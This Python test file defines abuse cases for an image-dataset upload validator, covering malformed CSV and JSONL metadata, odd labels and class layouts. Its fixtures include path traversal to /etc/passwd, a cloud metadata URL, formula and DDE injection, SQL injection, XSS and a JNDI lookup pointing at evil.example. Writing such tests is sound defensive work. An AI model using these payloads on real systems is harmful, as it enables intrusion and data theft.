"""C of the catalogue: labels, in folders and in metadata files."""

from __future__ import annotations

import json
from collections.abc import Iterable, Mapping

from tests.abuse.case import ACCEPTED, Archive, Build, Case, Row, rejected
from tests.images import shape_bytes, zip_bytes

_NAMES = [f"{number}.jpg" for number in range(8)]
_LABELS = ["ant", "bee"] * 4
_BAD = "invalid-metadata"


def _images() -> dict[str, bytes]:
    shapes = {"ant": "disc", "bee": "cross"}
    return {
        name: shape_bytes(shapes[label], 900 + number)
        for number, (name, label) in enumerate(zip(_NAMES, _LABELS, strict=True))
    }


def _table(rows: Iterable[str] = ()) -> bytes:
    lines = [f"{name},{label}" for name, label in zip(_NAMES, _LABELS, strict=True)]
    return "\n".join(["file_name,label", *lines, *rows]).encode()


def _csv(data: bytes) -> Build:
    return lambda: zip_bytes({**_images(), "metadata.csv": data})


def _jsonl(rows: Iterable[object]) -> Build:
    lines = [row if isinstance(row, str) else json.dumps(row) for row in rows]
    return lambda: zip_bytes({**_images(), "metadata.jsonl": "\n".join(lines).encode()})


def _folders(shapes: Mapping[str, int]) -> Build:
    def build() -> bytes:
        files = {}
        for number, (name, count) in enumerate(shapes.items()):
            for i in range(count):
                files[f"{name}/{i}.jpg"] = shape_bytes("disc", 1000 * number + i)
        return zip_bytes(files)

    return build


def _case(number: str, what: str, build: Build, code: str = "", *finds: str) -> Case:
    outcome = rejected(code) if code else ACCEPTED
    return Case(number, what, Archive(build), outcome, 30.0, frozenset(finds))


def _row(number: str, what: str, file_name: str, find: str) -> Case:
    """Return a case of a row that names a wrong file."""
    return Case(number, what, Row("ant", file_name), rejected(find))


def _label(number: str, what: str, label: str) -> Case:
    """Return a case of a strange label that is kept as it is."""
    return Case(number, what, Row(label), ACCEPTED)


def _bad_label(number: str, what: str, label: object, find: str) -> Case:
    return Case(number, what, Row(label), rejected(find))


_ROWS = (
    _row("C02-missing", "an image that is not there", "absent.jpg", "missing-file"),
    _row("C02-twice", "an image twice", "0.jpg", "duplicate-row"),
    _row("C02-contradiction", "an image with two labels", "./0.jpg", "duplicate-row"),
    _row("C02-outside", "an image outside", "../../etc/passwd", "path-traversal"),
    _row("C02-absolute", "an absolute path", "/etc/passwd", "absolute-path"),
    _row("C02-url", "a URL", "http://169.254.169.254/x.jpg", "url-not-supported"),
    _row("C02-file-url", "a file URL", "file:///etc/passwd", "url-not-supported"),
    _case(
        "C02-150",
        "150 bad rows",
        _csv(_table(f"missing{number}.jpg,ant" for number in range(150))),
        _BAD,
        "missing-file",
    ),
    _case(
        "C07-fields",
        "a field too many",
        _csv(_table(["0.jpg,ant,more"])),
        _BAD,
        "wrong-field-count",
    ),
)

_FILES = (
    _case("C07-bom", "a byte order mark", _csv(b"\xef\xbb\xbf" + _table())),
    _case("C07-crlf", "CRLF", _csv(_table().replace(b"\n", b"\r\n"))),
    _case("C07-cr", "CR alone", _csv(_table().replace(b"\n", b"\r"))),
    _case("C07-quote", "an open quote", _csv(_table(['0.jpg,"ant'])), _BAD, "malformed-csv"),
    _case(
        "C07-line",
        "a line of 1 MB",
        _csv(_table(["0.jpg," + "x" * (1 << 20)])),
        _BAD,
        "malformed-csv",
    ),
    _case(
        "C07-semicolon",
        "another separator",
        _csv(_table().replace(b",", b";")),
        _BAD,
        "missing-column",
    ),
    _case("C07-utf16", "UTF-16", _csv(_table().decode().encode("utf-16")), _BAD, "not-utf-8"),
    _case("C07-latin", "Latin-1", _csv(_table(["0.jpg,caf"]) + b"\xe9"), _BAD, "not-utf-8"),
    _case("C07-nul", "NUL bytes", _csv(_table(["0.jpg,a\0b"])), _BAD),
    _case("C07-empty", "an empty file", _csv(b""), _BAD, "missing-column"),
    _case(
        "C07-lines", "60,000 empty lines", _csv(_table() + b"\n" * 60_000), _BAD, "too-many-rows"
    ),
    _case("C07-json", "no JSON", _jsonl(["{", "[]", "nonsense"]), _BAD, "malformed-json"),
    _case("C07-deep", "100,000 brackets", _jsonl(["[" * 100_000]), _BAD, "malformed-json"),
    _case("C07-list", "a list for an object", _jsonl(["[1]"]), _BAD, "missing-column"),
    _case(
        "C07-nan",
        "NaN for a name",
        _jsonl(['{"file_name": NaN, "label": "a"}']),
        _BAD,
        "invalid-file-name",
    ),
    _case(
        "C07-two",
        "two metadata files",
        lambda: zip_bytes({**_images(), "metadata.csv": _table(), "metadata.jsonl": b""}),
        "ambiguous-layout",
    ),
    _case("C07-none", "it names no image", _csv(b"file_name,label\n"), "ambiguous-layout"),
)

_STRANGE = (
    _label("C01-formula", "a formula", '=HYPERLINK("http://evil.example")'),
    _label("C01-command", "a command", "+cmd|' /C calc'!A0"),
    _label("C01-at", "@SUM", "@SUM(1+1)"),
    _label("C06-emoji", "emoji", "\U0001f41c"),
    _label("C06-family", "emoji with joiners", "\U0001f469\u200d\U0001f52c"),
    _label("C06-arabic", "Arabic", "\u0646\u0645\u0644\u0629"),
    _label("C06-combining", "combining marks", "cafe\u0301"),
    _label("C06-proto", "__proto__", "__proto__"),
    _label("C06-constructor", "constructor", "constructor"),
    _label("C06-none", "None", "None"),
    _label("C06-nan", "nan", "nan"),
    _label("C06-number", "1e5", "1e5"),
    _label("C06-zero", "01", "01"),
    _label("C06-sql", "SQL", "'; DROP TABLE datasets; --"),
    _label("C06-html", "HTML", "<script>alert(1)</script>"),
    _label("IA06-jndi", "a lookup", "${jndi:ldap://evil.example/a}"),
    _label("IA06-percent", "a format", "%s%n{0}"),
    _bad_label("C06-nul", "NUL", "a\0b", "invalid-class-name"),
    _bad_label("C06-newline", "a newline", 'a\n{"level": "info"}', "invalid-class-name"),
    _bad_label("C06-tab", "a leading tab", "\t=1+1", "invalid-class-name"),
    _bad_label("C06-surrogate", "half a surrogate pair", "\ud800", "invalid-class-name"),
    _bad_label("C06-long", "1,000 characters", "x" * 1000, "invalid-class-name"),
    _bad_label("C06-empty", "empty", "", "invalid-class-name"),
    _bad_label("C06-blank", "blanks", "  ", "invalid-class-name"),
    _bad_label("C06-bidi", "right to left", "a\u202eb", "invalid-class-name"),
    _bad_label("C06-null", "null", None, "invalid-label"),
    _bad_label("C06-true", "true", True, "invalid-label"),
    _bad_label("C06-object", "an object", {}, "invalid-label"),
)

_CLASSES = (
    _case("C04-one", "one class", _folders({"only": 5}), "need-two-classes"),
    _case("C04-single", "a class with one image", _folders({"a": 6, "b": 1})),
    _case(
        "C04-leak",
        "the same image in train and val",
        lambda: zip_bytes(
            {
                **{
                    f"train/{s}/{i}.jpg": shape_bytes(s, i)
                    for s in ("disc", "cross")
                    for i in range(4)
                },
                **{
                    f"val/{s}/{i}.jpg": shape_bytes(s, i)
                    for s in ("disc", "cross")
                    for i in range(2)
                },
            }
        ),
    ),
    _case(
        "C05-1001",
        "1,001 classes",
        _folders(dict.fromkeys(map(str, range(1001)), 1)),
        "too-many-classes",
    ),
    _case(
        "C03-val-only",
        "a class in val alone",
        lambda: zip_bytes(
            {
                **{f"train/disc/{i}.jpg": shape_bytes("disc", i) for i in range(4)},
                **{f"train/cross/{i}.jpg": shape_bytes("cross", i) for i in range(4)},
                "val/square/1.jpg": shape_bytes("square", 1),
                "val/disc/9.jpg": shape_bytes("disc", 99),
            }
        ),
        "class-without-images",
    ),
)

CASES = (*_ROWS, *_FILES, *_STRANGE, *_CLASSES)


def archive_of(rows: Mapping[str, Row]) -> bytes:
    """Return an upload with a metadata line for each row, behind eight good ones."""
    files = _images()
    lines: list[dict[str, object]] = [
        {"file_name": name, "label": label} for name, label in zip(_NAMES, _LABELS, strict=True)
    ]
    for place, (number, row) in enumerate(rows.items()):
        files[f"{number}.jpg"] = shape_bytes("disc", 2000 + place)
        lines.append({"file_name": row.file_name or f"{number}.jpg", "label": row.label})
    files["metadata.jsonl"] = "\n".join(map(json.dumps, lines)).encode()
    return zip_bytes(files)


#: Of the first row behind the good ones, counted from 1.
FIRST_ROW = len(_NAMES) + 1
